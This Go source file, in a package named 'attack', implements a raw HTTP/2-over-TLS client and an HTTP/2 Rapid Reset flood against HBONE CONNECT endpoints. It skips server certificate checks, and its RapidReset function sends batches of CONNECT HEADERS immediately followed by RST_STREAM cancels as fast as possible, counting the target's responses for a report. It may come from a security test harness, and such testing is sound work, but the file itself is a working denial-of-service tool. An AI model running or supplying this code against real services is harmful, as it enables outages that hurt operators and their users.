package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// clientPreface opens every HTTP/2 connection (RFC 9113 section 3.4).
const clientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// H2Conn is a raw HTTP/2 client connection over TLS 1.3 with ALPN h2 and
// no SNI, as HBONE wants. Writes are serialised by a mutex and buffered:
// nothing leaves until Flush (Open and Reset do not flush). One goroutine
// reads frames: it acks SETTINGS and PING, hands a stream's response status
// or reset to Response, and records GOAWAY. Close tears the connection down.
type H2Conn struct {
	nc  net.Conn // the TLS connection
	raw net.Conn // under it

	wmu  sync.Mutex // guards bw, fr, enc, hbuf, next
	bw   *bufio.Writer
	fr   *http2.Framer
	enc  *hpack.Encoder
	hbuf bytes.Buffer
	next uint32

	smu     sync.Mutex // guards waiters
	waiters map[uint32]chan Answer

	// Counters of what the peer sent, for the attack's report.
	Statuses2xx, StatusesOther, Resets atomic.Int64
	goAway                             atomic.Pointer[http2.GoAwayFrame]
	readErr                            atomic.Pointer[error]
	dead                               chan struct{}
}

// Answer is the peer's reply to one stream: a :status, or a RST_STREAM, or
// the connection's end.
type Answer struct {
	Status int
	Reset  http2.ErrCode
	// Err is set when the connection ended before the stream was answered.
	Err error
}

func (a Answer) String() string {
	switch {
	case a.Err != nil:
		return a.Err.Error()
	case a.Status != 0:
		return "status " + strconv.Itoa(a.Status)
	default:
		return "RST_STREAM " + a.Reset.String()
	}
}

// NewH2Conn runs the TLS handshake on nc (presenting cert; the server's
// certificate is not verified: an attacker does not care who answers) and
// the HTTP/2 preface. It takes ownership of nc.
func NewH2Conn(ctx context.Context, nc net.Conn, cert tls.Certificate) (*H2Conn, error) {
	tc := tls.Client(nc, &tls.Config{
		MinVersion:         tls.VersionTLS13,
		NextProtos:         []string{"h2"},
		InsecureSkipVerify: true,
		Certificates:       []tls.Certificate{cert},
	})
	if err := tc.HandshakeContext(ctx); err != nil {
		nc.Close()
		return nil, fmt.Errorf("TLS handshake with %s: %w", nc.RemoteAddr(), err)
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		tc.Close()
		return nil, fmt.Errorf("TLS with %s: ALPN %q, want h2", nc.RemoteAddr(), p)
	}
	c := &H2Conn{nc: tc, raw: nc, next: 1, waiters: map[uint32]chan Answer{}, dead: make(chan struct{})}
	c.bw = bufio.NewWriterSize(tc, 64<<10)
	c.fr = http2.NewFramer(c.bw, bufio.NewReaderSize(tc, 64<<10))
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.fr.MaxHeaderListSize = 64 << 10
	c.enc = hpack.NewEncoder(&c.hbuf)
	c.wmu.Lock()
	c.bw.WriteString(clientPreface)
	err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0},
		http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	if err == nil {
		err = c.bw.Flush()
	}
	c.wmu.Unlock()
	if err != nil {
		tc.Close()
		return nil, fmt.Errorf("HTTP/2 preface to %s: %w", nc.RemoteAddr(), err)
	}
	go c.readLoop()
	return c, nil
}

// Open writes a CONNECT HEADERS frame for authority on a new stream and
// returns its id. With wait, Response can be called for the stream; without
// it the answer is only counted (a rapid reset keeps no per-stream state).
func (c *H2Conn) Open(authority string, wait bool) (uint32, error) {
	select {
	case <-c.dead:
		return 0, fmt.Errorf("connection ended: %w", c.Err())
	default:
	}
	c.wmu.Lock()
	defer c.wmu.Unlock()
	id := c.next
	c.next += 2
	if wait {
		c.smu.Lock()
		c.waiters[id] = make(chan Answer, 1)
		c.smu.Unlock()
	}
	c.hbuf.Reset()
	c.enc.WriteField(hpack.HeaderField{Name: ":method", Value: "CONNECT"})
	c.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: authority})
	err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true})
	return id, err
}

// Reset writes RST_STREAM(CANCEL) for a stream.
func (c *H2Conn) Reset(id uint32) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// Flush sends what Open and Reset buffered.
func (c *H2Conn) Flush() error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.bw.Flush()
}

// Response waits for the answer to a stream opened with wait; it can be
// called once per stream.
func (c *H2Conn) Response(ctx context.Context, id uint32) Answer {
	c.smu.Lock()
	ch := c.waiters[id]
	c.smu.Unlock()
	if ch == nil {
		return Answer{Err: fmt.Errorf("stream %d was not opened with wait, or its answer was already taken", id)}
	}
	defer func() {
		c.smu.Lock()
		delete(c.waiters, id)
		c.smu.Unlock()
	}()
	select {
	case a := <-ch:
		return a
	case <-ctx.Done():
		return Answer{Err: fmt.Errorf("no answer: %w", ctx.Err())}
	}
}

// Ask opens a stream for authority, sends it at once and waits for its
// answer until ctx ends. It returns the stream's id (0 if none was opened).
func (c *H2Conn) Ask(ctx context.Context, authority string) (uint32, Answer) {
	id, err := c.Open(authority, true)
	if err == nil {
		err = c.Flush()
	}
	if err != nil {
		return id, Answer{Err: err}
	}
	return id, c.Response(ctx, id)
}

// GoAway returns the peer's GOAWAY, if it sent one.
func (c *H2Conn) GoAway() *http2.GoAwayFrame { return c.goAway.Load() }

// Done is closed when the connection's read side ended.
func (c *H2Conn) Done() <-chan struct{} { return c.dead }

// Err is why the read side ended (nil while it runs).
func (c *H2Conn) Err() error {
	if p := c.readErr.Load(); p != nil {
		return *p
	}
	return nil
}

// Close closes the TCP connection at once: no TLS close_notify, which could
// wait on a peer that stopped reading.
func (c *H2Conn) Close() error { return c.raw.Close() }

// answer hands the first answer of a stream to its waiter; later ones
// (a reset after the status) are only counted.
func (c *H2Conn) answer(id uint32, a Answer) {
	c.smu.Lock()
	ch := c.waiters[id]
	c.smu.Unlock()
	if ch != nil {
		select {
		case ch <- a:
		default:
		}
	}
}

func (c *H2Conn) readLoop() {
	var err error
	defer func() {
		c.readErr.Store(&err)
		c.smu.Lock()
		for _, ch := range c.waiters {
			select {
			case ch <- Answer{Err: fmt.Errorf("connection ended: %w", err)}:
			default:
			}
		}
		c.smu.Unlock()
		close(c.dead)
	}()
	for {
		var f http2.Frame
		f, err = c.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.control(func() error { return c.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.control(func() error { return c.fr.WritePing(true, f.Data) })
			}
		case *http2.MetaHeadersFrame:
			st, _ := strconv.Atoi(f.PseudoValue("status"))
			if st >= 200 && st < 300 {
				c.Statuses2xx.Add(1)
			} else {
				c.StatusesOther.Add(1)
			}
			c.answer(f.StreamID, Answer{Status: st})
		case *http2.RSTStreamFrame:
			c.Resets.Add(1)
			c.answer(f.StreamID, Answer{Reset: f.ErrCode})
		case *http2.GoAwayFrame:
			g := *f
			g.FrameHeader = http2.FrameHeader{}
			c.goAway.CompareAndSwap(nil, &g)
		case *http2.DataFrame:
			// Give the window back so a held stream never stalls the peer.
			if n := len(f.Data()); n > 0 {
				c.control(func() error {
					if err := c.fr.WriteWindowUpdate(0, uint32(n)); err != nil {
						return err
					}
					return c.fr.WriteWindowUpdate(f.StreamID, uint32(n))
				})
			}
		}
	}
}

// control writes a frame the reader owes the peer and flushes it.
func (c *H2Conn) control(write func() error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if write() == nil {
		c.bw.Flush()
	}
}

// ErrGoAway: the peer sent GOAWAY.
var ErrGoAway = errors.New("peer sent GOAWAY")

// RapidReset sends HEADERS(CONNECT authority) + RST_STREAM(CANCEL) pairs on
// c as fast as it can until ctx ends or the connection fails (a GOAWAY
// included), flushing every batch pairs. It returns the pairs sent.
func RapidReset(ctx context.Context, c *H2Conn, authority string, batch int) (int, error) {
	pairs := 0
	for ctx.Err() == nil {
		for i := 0; i < batch; i++ {
			id, err := c.Open(authority, false)
			if err == nil {
				err = c.Reset(id)
			}
			if err != nil {
				return pairs, err
			}
			pairs++
		}
		// A write blocked on a peer that stopped reading must not outlive
		// the attack.
		c.nc.SetWriteDeadline(deadlineOf(ctx))
		if err := c.Flush(); err != nil {
			return pairs, err
		}
		select {
		case <-c.dead:
			if c.GoAway() != nil {
				return pairs, ErrGoAway
			}
			return pairs, c.Err()
		default:
		}
	}
	return pairs, nil
}

func deadlineOf(ctx context.Context) time.Time {
	if d, ok := ctx.Deadline(); ok {
		return d
	}
	return time.Time{}
}
